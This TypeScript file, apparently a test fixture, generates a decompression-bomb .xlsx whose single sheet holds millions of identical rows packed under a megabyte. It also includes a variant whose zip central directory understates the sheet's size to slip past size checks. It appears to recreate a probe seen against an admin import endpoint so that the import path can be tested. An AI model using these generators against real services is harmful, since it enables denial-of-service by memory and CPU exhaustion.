/**
 * A decompression-bomb .xlsx like the one a probe posted to /admin/import/ledger: a valid workbook whose
 * only sheet holds millions of identical rows, deflated into well under a megabyte. Built by streaming
 * the same chunk of XML through deflate, so making it never holds the unpacked sheet in memory.
 */
import { crc32, createDeflateRaw } from 'node:zlib';

interface Part {
  name: string;
  data: Buffer;
  crc: number;
  size: number;
}

async function deflatePart(name: string, chunks: Iterable<Buffer>): Promise<Part> {
  const deflate = createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (d: Buffer) => out.push(d));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  let crc = 0;
  let size = 0;
  for (const chunk of chunks) {
    crc = crc32(chunk, crc);
    size += chunk.length;
    if (!deflate.write(chunk)) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return { name, data: Buffer.concat(out), crc, size };
}

function zip(parts: Part[]): Buffer {
  const locals: Buffer[] = [];
  const central: Buffer[] = [];
  let offset = 0;
  for (const p of parts) {
    const name = Buffer.from(p.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(p.crc >>> 0, 14);
    local.writeUInt32LE(p.data.length, 18);
    local.writeUInt32LE(p.size, 22);
    local.writeUInt16LE(name.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(20, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(8, 10);
    cd.writeUInt32LE(p.crc >>> 0, 16);
    cd.writeUInt32LE(p.data.length, 20);
    cd.writeUInt32LE(p.size, 24);
    cd.writeUInt16LE(name.length, 28);
    cd.writeUInt32LE(offset, 42);
    locals.push(local, name, p.data);
    central.push(cd, name);
    offset += local.length + name.length + p.data.length;
  }
  const cdBuf = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(cdBuf.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cdBuf, end]);
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

/** An .xlsx of `rows` identical rows (one cell: 人社) in one sheet; 5 million rows deflate to about 0.8 MB. */
export async function xlsxBomb(rows = 5_000_000): Promise<Buffer> {
  const row = Buffer.from('<row><c t="inlineStr"><is><t>人社</t></is></c></row>');
  const perChunk = 20_000;
  const chunk = Buffer.concat(Array.from({ length: perChunk }, () => row));
  function* sheet() {
    yield Buffer.from(`${XML}<worksheet xmlns="${MAIN}"><sheetData>`);
    for (let left = rows; left > 0; left -= perChunk) yield left >= perChunk ? chunk : Buffer.concat(Array.from({ length: left }, () => row));
    yield Buffer.from('</sheetData></worksheet>');
  }
  const small = (name: string, text: string) => deflatePart(name, [Buffer.from(text)]);
  return zip([
    await small('[Content_Types].xml', `${XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`),
    await small('_rels/.rels', `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    await small('xl/workbook.xml', `${XML}<workbook xmlns="${MAIN}" xmlns:r="${REL}"><sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    await small('xl/_rels/workbook.xml.rels', `${XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
    await deflatePart('xl/worksheets/sheet1.xml', sheet()),
  ]);
}

/** The same bomb with its central directory understating the sheet's size (a header that lies). */
export function understated(bomb: Buffer, claimedSize = 4096): Buffer {
  const out = Buffer.from(bomb);
  const eocd = out.length - 22;
  let p = out.readUInt32LE(eocd + 16);
  for (let i = 0; i < out.readUInt16LE(eocd + 10); i++) {
    const nameLength = out.readUInt16LE(p + 28);
    if (out.toString('utf8', p + 46, p + 46 + nameLength).startsWith('xl/worksheets/')) out.writeUInt32LE(claimedSize, p + 24);
    p += 46 + nameLength;
  }
  return out;
}
